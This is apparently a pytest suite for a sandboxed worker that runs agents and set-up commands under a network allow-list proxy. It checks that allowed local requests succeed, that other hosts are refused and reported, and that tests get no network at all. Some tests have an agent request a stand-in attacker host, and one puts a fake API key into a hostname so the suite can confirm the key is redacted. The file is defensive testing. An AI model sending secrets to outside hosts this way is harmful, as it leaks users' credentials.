"""Level network in a worker: what agents, the set-up command and tests reach, and what is told of it."""

from __future__ import annotations

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from dataclasses import replace

import pytest

from core.isolation.plan import Level
from core.worker.contract import PhaseEnd
from core.worker.environments import EnvironmentFailed, Environments
from core.worker.git import Repository
from core.worker.phases import run_phase

pytestmark = [pytest.mark.timeout(120), pytest.mark.bwrap]

# Asks for an address as programs do: by the proxy that the environment names, or straight.
ASK = """
import sys, urllib.error, urllib.request
for url in sys.argv[1:]:
    try:
        said = urllib.request.urlopen(url, timeout=30).read().decode()
    except urllib.error.HTTPError as error:
        said = f"{error.code} {error.read().decode().strip()}"
    except OSError as error:
        said = f"no way: {error}"
    print(url, said)
"""


@pytest.fixture
async def port() -> AsyncIterator[int]:
    """A server of this machine that says hello."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    yield server.sockets[0].getsockname()[1]
    server.close()


@pytest.fixture
def project(setup, machine):
    if Level.NETWORK not in machine.levels:
        pytest.skip(machine.reasons[Level.NETWORK])
    return replace(setup, isolation="network")


@pytest.fixture
def asking(calculator):
    calculator.commit({"ask.py": ASK})

    def steps(*urls: str) -> list[object]:
        return [{"run": f"python3 -S ask.py {' '.join(urls)} > said.txt 2>&1; cat said.txt"}]

    return steps


async def test_an_agent_reaches_what_is_allowed_and_the_rest_is_told(
    calculator, job_of, play, services, heard, project, asking, port, state_path
) -> None:
    secret = "sk-abcdef0123456789"
    urls = (f"http://127.0.0.1:{port}/", "http://evil.example/", f"http://{secret}.example/")
    agent = play(test_red=[*asking(*urls), *asking(urls[1]), "crash"])
    job = job_of(agent, project=replace(project, network_allow=(f"127.0.0.1:{port}",)), secrets=(secret,))
    report = await run_phase(job, services, asyncio.Event())
    (transcript,) = (state_path / "transcripts").rglob("*.jsonl")
    text = transcript.read_text()
    assert f"http://127.0.0.1:{port}/ hello" in text
    assert "http://evil.example/ 403 Orchard: No rule of the allow-list names the host evil.example." in text
    assert secret not in text
    assert [(denied.host, denied.port) for denied in heard.denials][:1] == [("evil.example", 80)]
    assert len(heard.denials) == 2, heard.denials  # each once
    assert secret not in repr(heard.denials)
    assert {denied.story_id for denied in heard.denials} == {"shop-1"}
    notes = [entry["message"] for entry in map(json.loads, text.splitlines()) if entry["way"] == "note"]
    assert any("Network: evil.example:80 was refused." in str(note) for note in notes)
    assert report.end is PhaseEnd.AGENT_FAILED
    assert "Add 'evil.example:80'" in report.hint
    assert "'network_allow'" in report.hint
    (used,) = heard.network
    assert (used.what, used.denied) == ("agent", 3)
    # Nothing is left; where the folder's own path is too long for sockets, it was never made.
    assert list(state_path.glob("doors/*")) == []


async def test_an_agent_of_another_role_may_have_another_level(
    calculator, job_of, play, services, heard, project, asking, port
) -> None:
    agent = play(test_red=[*asking(f"http://127.0.0.1:{port}/"), "crash"])
    freer = replace(project, isolation_by_role={"qa": "filesystem"})
    await run_phase(job_of(agent, project=freer), services, asyncio.Event())
    (transcript,) = (project.state_path / "transcripts").rglob("*.jsonl")
    assert "hello" in transcript.read_text()
    assert heard.network == []


async def test_what_an_agents_own_row_points_to_is_a_door(
    calculator, job_of, play, services, project, asking, port
) -> None:
    agent = play(test_red=[*asking(f"http://127.0.0.1:{port}/"), "crash"])
    agent = replace(agent, environment={**agent.environment, "OWN_BASE_URL": f"http://localhost:{port}/v1"})
    await run_phase(job_of(agent, project=project), services, asyncio.Event())
    (transcript,) = (project.state_path / "transcripts").rglob("*.jsonl")
    assert "hello" in transcript.read_text()


async def test_tests_reach_nothing(calculator, job_of, play, services, project, port) -> None:
    code = f"import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/', timeout=30)\n"
    red = [{"write": {"path": "tests/test_net.py", "text": code}}]
    allowed = replace(project, network_allow=(f"127.0.0.1:{port}",))
    report = await run_phase(job_of(play(test_red=red), project=allowed), services, asyncio.Event())
    free = replace(project, isolation="filesystem")
    other = await run_phase(job_of(play(test_red=red), project=free, generation=2), services, asyncio.Event())
    # There it passes, which no red test may; here it fails, as it should before there is any code.
    assert (report.end, other.end) == (PhaseEnd.PASSED, PhaseEnd.REFUSED), (report, other)


async def test_the_set_up_command_reaches_its_own_list_only(
    calculator, project, machine, heard, port
) -> None:
    calculator.commit({"ask.py": ASK, "requirements.txt": "x\n"})
    repository = await Repository.open(calculator.path)
    command = f"python3 -S ask.py http://127.0.0.1:{port}/ http://evil.example/ | tee said.txt; exit 3"
    setup = replace(
        project,
        environment="make",
        setup_command=command,
        setup_network_allow=(f"127.0.0.1:{port}",),
    )
    with pytest.raises(EnvironmentFailed) as caught:
        await Environments(repository, setup, machine, tell=heard).find("main")
    assert f"http://127.0.0.1:{port}/ hello" in caught.value.why
    assert "evil.example:80 was refused" in caught.value.hint
    assert "'setup_network_allow'" in caught.value.hint
    assert [(denied.what, denied.story_id) for denied in heard.denials] == [("setup", None)]


@pytest.mark.skipif(not shutil.which("mvn"), reason="needs Maven")
async def test_javas_tools_ask_the_proxy_too(calculator, project, machine, heard) -> None:
    pom = (
        "<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>a</artifactId>"
        "<version>1</version><parent><groupId>b</groupId><artifactId>b</artifactId><version>1</version>"
        "</parent></project>"
    )
    calculator.commit({"pom.xml": pom, "requirements.txt": "x\n"})
    repository = await Repository.open(calculator.path)
    quick = 'JAVA_TOOL_OPTIONS="$JAVA_TOOL_OPTIONS -XX:TieredStopAtLevel=1 -XX:+UseSerialGC"'
    setup = replace(project, environment="make", setup_command=f"{quick} mvn -B -q validate")
    with pytest.raises(EnvironmentFailed) as caught:
        await Environments(repository, setup, machine, tell=heard).find("main")
    assert "repo.maven.apache.org:443 was refused" in caught.value.hint
    assert ("repo.maven.apache.org", 443) in {(denied.host, denied.port) for denied in heard.denials}
